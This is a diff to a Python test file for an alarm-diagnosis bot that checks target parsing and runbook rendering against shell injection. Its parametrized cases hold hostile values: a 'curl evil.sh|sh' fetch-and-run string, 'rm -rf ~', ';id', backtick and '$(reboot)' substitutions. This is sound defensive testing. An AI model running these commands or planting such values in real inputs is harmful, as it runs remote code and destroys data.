@@ -91,7 +91,7 @@ def test_target_reads_url_domain_and_ip() -> None:
     assert (target.domain, target.ip, target.port) == (
         "wx.example.cn",
         "198.51.100.1",
-        None,
+        80,
     )
 
 
@@ -129,3 +129,55 @@ def test_conditional_step_follows_the_sample(knowledge: Knowledge) -> None:
     empty_ids = [s.id for s in diagnose(empty, knowledge).steps]
     assert "check-network-error" not in with_ids
     assert "check-network-error" in empty_ids
+
+
+@pytest.mark.parametrize(
+    ("sample", "field", "expected"),
+    [
+        ({"3rdUrl": "http://a.com;curl evil.sh|sh/cb"}, "domain", None),
+        ({"3rdUrl": "http://a.com/x'; rm -rf ~; '"}, "url", None),
+        (
+            {"3rdUrl": "http://a.example.com/wx?x=1&y=2"},
+            "url",
+            "http://a.example.com/wx?x=1&y=2",
+        ),
+        ({"3rdUrl": "http://a.example.com/wx"}, "port", 80),
+        ({"3rdUrl": "https://a.example.com/wx"}, "port", 443),
+        ({"3rdUrl": "https://a.example.com:8443/wx"}, "port", 8443),
+        ({"IP": "1.2.3.4;id"}, "ip", None),
+        ({"ip": "198.51.*.*"}, "ip", None),
+        ({"ip": "198.51.100.7"}, "ip", "198.51.100.7"),
+        ({"Stamp": "1632802806"}, "stamp", "1632802806"),
+        ({"Stamp": "1`id`"}, "stamp", None),
+        (
+            {"OpenID": "oOHKDpnJh_rgiOaPq_N9RtlnnudS"},
+            "openid",
+            "oOHKDpnJh_rgiOaPq_N9RtlnnudS",
+        ),
+        ({"OpenID": "$(reboot)"}, "openid", None),
+    ],
+)
+def test_target_accepts_only_shell_safe_values(
+    sample: dict[str, str], field: str, expected: object
+) -> None:
+    assert getattr(find_target(_alarm(**sample)), field) == expected
+
+
+def test_crafted_alarm_cannot_inject_into_runbook_commands(
+    knowledge: Knowledge,
+) -> None:
+    from bot.render import ReplyRenderer
+
+    text = (
+        "Appid: wx1234567890abcdef\n"
+        "内容: 微信服务器连接公众号开发者服务器时发生超时,超时时间为5秒\n"
+        "次数: 5分钟 3次\n"
+        "错误样例: [3rdUrl=http://a.com;curl evil.sh|sh/cb][IP=1.2.3.4;id][Stamp=1;id]"
+    )
+    (alarm,) = parse(text, knowledge.matcher)
+    reply = ReplyRenderer(knowledge).alarm_reply([diagnose(alarm, knowledge)])
+    commands = [line for line in reply.splitlines() if line.lstrip().startswith("$")]
+    assert commands
+    for line in commands:
+        assert "evil" not in line
+        assert ";id" not in line
